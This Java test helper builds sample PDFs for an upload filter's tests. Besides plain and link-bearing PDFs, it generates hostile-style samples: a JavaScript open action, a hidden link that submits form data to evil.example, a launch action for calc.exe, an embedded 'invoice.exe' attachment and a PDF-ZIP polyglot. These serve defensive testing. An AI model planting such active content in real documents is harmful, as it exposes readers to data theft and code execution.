package io.quizhall.storage;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;

/**
 * PDFs made in the test with pdfbox: plain ones, and ones with each kind of active content the upload must refuse.
 * pdfbox writes objects into compressed object streams, so the checks must look inside those too.
 */
public final class TestPdfs {

    private static final Random RANDOM = new Random();

    private TestPdfs() {}

    /** A PDF with this many pages, each saying its number; a random word keeps each call's bytes apart (dedupe). */
    public static byte[] pages(int count) {
        return make(count, document -> {});
    }

    /** A harmless link to a web page, which is allowed. */
    public static byte[] withWebLink() {
        return make(1, document -> {
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 600, 200, 20));
            var uri = new PDActionURI();
            uri.setURI("https://example.org/");
            link.setAction(uri);
            addAnnotation(document, link);
        });
    }

    public static byte[] withJavaScriptOpenAction() {
        return make(
                1,
                document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hello');")));
    }

    /** JavaScript behind a link on the second page, where a quick look at the catalogue would not find it. */
    public static byte[] withJavaScriptLink() {
        return make(2, document -> {
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 600, 200, 20));
            link.setAction(new PDActionJavaScript("this.submitForm('https://evil.example/')"));
            try {
                document.getPage(1).getAnnotations().add(link);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    public static byte[] withLaunchAction() {
        return make(1, document -> {
            var launch = new PDActionLaunch();
            var file = new PDSimpleFileSpecification();
            file.setFile("calc.exe");
            launch.setFile(file);
            document.getDocumentCatalog().setOpenAction(launch);
        });
    }

    public static byte[] withAttachment() {
        return make(1, document -> {
            try {
                var embedded = new PDEmbeddedFile(
                        document, new ByteArrayInputStream("MZ not a program".getBytes(StandardCharsets.US_ASCII)));
                var spec = new PDComplexFileSpecification();
                spec.setFile("invoice.exe");
                spec.setEmbeddedFile(embedded);
                var tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(Map.of("invoice.exe", spec));
                var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                document.getDocumentCatalog().setNames(names);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** Encrypted with an owner password only: any viewer opens it without asking, but it is encrypted. */
    public static byte[] encrypted() {
        return make(1, document -> {
            var policy = new StandardProtectionPolicy("owner-secret", "", new AccessPermission());
            policy.setEncryptionKeyLength(128);
            try {
                document.protect(policy);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** A PDF with a ZIP archive appended: a polyglot. */
    public static byte[] withTrailingZip() {
        var out = new ByteArrayOutputStream();
        out.writeBytes(pages(1));
        out.writeBytes(TestFiles.zip());
        return out.toByteArray();
    }

    /** About {@code bytes} long: a page with a picture of random noise, which no compression shrinks. */
    public static byte[] larger(int bytes) {
        int side = (int) Math.sqrt(bytes / 3.0) + 1;
        return make(1, document -> {
            var noise = new BufferedImage(side, side, BufferedImage.TYPE_INT_RGB);
            for (int y = 0; y < side; y++) {
                for (int x = 0; x < side; x++) {
                    noise.setRGB(x, y, RANDOM.nextInt(0x1000000));
                }
            }
            try (var content = new PDPageContentStream(
                    document, document.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                content.drawImage(LosslessFactory.createFromImage(document, noise), 72, 72, 300, 300);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    private static void addAnnotation(PDDocument document, PDAnnotationLink link) {
        try {
            document.getPage(0).getAnnotations().add(link);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] make(int pages, Consumer<PDDocument> extra) {
        try (var document = new PDDocument()) {
            var font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
            String word = Long.toHexString(RANDOM.nextLong());
            for (int i = 1; i <= pages; i++) {
                var page = new PDPage(PDRectangle.A4);
                document.addPage(page);
                try (var content = new PDPageContentStream(document, page)) {
                    content.beginText();
                    content.setFont(font, 24);
                    content.newLineAtOffset(72, 700);
                    content.showText("Page " + i + " " + word);
                    content.endText();
                }
            }
            extra.accept(document);
            var out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
